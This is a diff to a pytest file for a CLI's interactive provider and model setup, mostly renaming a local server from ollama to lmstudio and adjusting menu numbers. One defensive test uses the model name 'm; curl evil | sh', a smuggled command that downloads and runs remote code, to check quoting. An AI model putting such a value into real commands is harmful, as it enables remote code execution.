@@ -10,6 +10,9 @@ from each_of import each_of
 from setup_dialog import CTRL_C, CTRL_D, KEY, MODEL, PROVIDER, READY, WRITE
 from vendor_server import GOOD, HELLO, NARROW, POOR, vendor
 
+TWO = ("--without", "pluggent-bedrock,pluggent-gemini")
+"""Leaves the list of providers with two vendors, so that its numbers stay what they are."""
+
 
 def test_a_new_user_gets_a_model_that_answers(setup, server):
     done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")
@@ -34,7 +37,7 @@ def test_a_new_user_gets_a_model_that_answers(setup, server):
 
 def test_models_are_listed_newest_first_and_found_by_a_part_of_their_name(setup):
     done = setup(
-        PROVIDER, "2\n", KEY, f"{GOOD}\n", MODEL, "CHAT\n", MODEL, "1\n", WRITE, "y\n"
+        PROVIDER, "2\n", KEY, f"{GOOD}\n", MODEL, "CHAT\n", MODEL, "1\n", WRITE, "y\n", arguments=TWO
     )  # fmt: skip
 
     assert done.code == 0, done.out
@@ -62,9 +65,9 @@ def test_what_the_server_said_stands_in_a_line_of_its_own(setup):
 
 
 def test_other_means_the_one_server_that_is_to_be_named_or_asks_which(setup):
-    done = setup(PROVIDER, "other\n", PROVIDER, CTRL_C)
+    done = setup(PROVIDER, "other\n", PROVIDER, CTRL_C, arguments=TWO)
 
-    assert "Several are called other; type the number: 6 or 7\n" in done.out
+    assert "Several are called other; type the number: 5 or 6\n" in done.out
 
 
 def test_a_model_that_is_not_there_leads_to_the_list_of_models(setup):
@@ -131,14 +134,14 @@ def test_a_model_that_does_not_answer_is_replaced_by_another(setup):
 def test_a_local_server_needs_no_key(setup):
     with vendor(keyless=True) as local:
         done = setup(
-            PROVIDER, "ollama\n", "base_url [http://127.0.0.1:11434/v1]: ", f"{local.url}\n",
+            PROVIDER, "lmstudio\n", "base_url [http://127.0.0.1:1234/v1]: ", f"{local.url}\n",
             MODEL, "chat-small\n", WRITE, "y\n",
         )  # fmt: skip
 
         assert done.code == 0, done.out
         assert tomllib.loads(setup.settings.read_text()) == {
-            "model": "ollama/chat-small",
-            "plugins": {"pluggent-openai": {"servers": {"ollama": {"base_url": local.url}}}},
+            "model": "lmstudio/chat-small",
+            "plugins": {"pluggent-openai": {"servers": {"lmstudio": {"base_url": local.url}}}},
         }
         assert {key for _, key in local.requests} == {""}
         assert setup.run("run", "hi").code == 0
@@ -157,8 +160,8 @@ def test_what_is_known_of_a_local_server_is_written_too(setup):
 
 def test_a_server_of_ones_own_gets_a_name_and_a_key(setup, server):
     done = setup(
-        PROVIDER, "7\n", "NAME/MODEL: ", "my lab\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
-        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n",
+        PROVIDER, "6\n", "NAME/MODEL: ", "my lab\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
+        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=TWO,
     )  # fmt: skip
 
     assert done.code == 0, done.out
@@ -186,17 +189,17 @@ def test_a_server_of_the_settings_is_set_up_again_by_its_name(setup, server):
 def test_what_a_server_says_cannot_steer_the_terminal(setup):
     with vendor(keyless=True, models=(f"evil{EVIL}", "\u5927" * 30, "x" * 300)) as local:
         done = setup(
-            "/v1]: ", f"{local.url}\n", MODEL, "evil\n", MODEL, "1\n", WRITE, "y\n", arguments=("ollama",)
+            "/v1]: ", f"{local.url}\n", MODEL, "evil\n", MODEL, "1\n", WRITE, "y\n", arguments=("lmstudio",)
         )  # fmt: skip
 
     assert (done.code, STEERING & set(done.out)) == (0, set())
-    assert tomllib.loads(setup.settings.read_text())["model"] == f"ollama/evil{EVIL}"
+    assert tomllib.loads(setup.settings.read_text())["model"] == f"lmstudio/evil{EVIL}"
 
 
 def test_a_very_long_name_of_a_model_does_not_fill_the_screen(setup):
     with vendor(keyless=True, models=("chat", "x" * 1_000_000)) as local:
         local.more = {"display_name": "long " * 100_000}
-        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("ollama",))
+        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("lmstudio",))
 
     assert (done.code, len(done.out) < 5_000) == (0, True)
 
@@ -218,10 +221,17 @@ def test_the_command_to_begin_with_is_one_command_whatever_a_model_is_called(set
     name = "m; curl evil | sh"
     with vendor(keyless=True, models=(name,)) as local:
         done = setup(
-            "/v1]: ", f"{local.url}\n", MODEL, "1\n", WRITE, "y\n", arguments=("ollama",), PLUGGENT_MODEL="offline/demo"
+            "/v1]: ",
+            f"{local.url}\n",
+            MODEL,
+            "1\n",
+            WRITE,
+            "y\n",
+            arguments=("lmstudio",),
+            PLUGGENT_MODEL="offline/demo",
         )
 
-    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'ollama/{name}'\n")
+    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'lmstudio/{name}'\n")
 
 
 def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, server):
@@ -230,8 +240,8 @@ def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, se
     kept.write_text("sk-of-anthropic\n")
 
     done = setup(
-        PROVIDER, "7\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
-        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n",
+        PROVIDER, "6\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
+        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=TWO,
     )  # fmt: skip
 
     assert "anthropic is a provider already; take another name." in done.out
@@ -241,7 +251,7 @@ def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, se
 def test_what_is_not_a_url_is_asked_for_again(setup, server):
     done = setup(
         "base_url [", "ftp://x\n", "base_url [", f"{server.url}\n", KEY.replace("): ", ""), CTRL_C,
-        arguments=("ollama",),
+        arguments=("lmstudio",),
     )  # fmt: skip
 
     assert "expected http://HOST/PATH or https://HOST/PATH" in done.out
@@ -380,6 +390,14 @@ def test_without_a_terminal_the_lines_to_write_are_printed(setup):
     )
 
 
+def test_a_local_server_is_not_offered_under_the_name_of_an_installed_provider(setup):
+    """pluggent-ollama is installed beside these tests, and blocked: its name is its own."""
+    offered = [one["provider"] for one in json.loads(setup.run("setup", "--json").out)["providers"]]
+
+    assert "lmstudio" in offered
+    assert "ollama" not in offered
+
+
 def test_the_lines_that_are_printed_are_right(setup):
     """Each provider's lines, loaded as they are."""
     document = json.loads(setup.run("setup", "--json").out)
@@ -454,6 +472,6 @@ def test_a_provider_of_others_is_asked_by_its_settings_class(setup):
 
 
 def test_without_a_provider_it_says_what_to_install(cli):
-    done = cli("setup", "--without", "pluggent-openai,pluggent-anthropic")
+    done = cli("setup", "--without", f"pluggent-openai,pluggent-anthropic,{TWO[1]}")
 
     assert (done.code, "no provider is installed; to begin with: pip install pluggent-openai" in done.err) == (2, True)
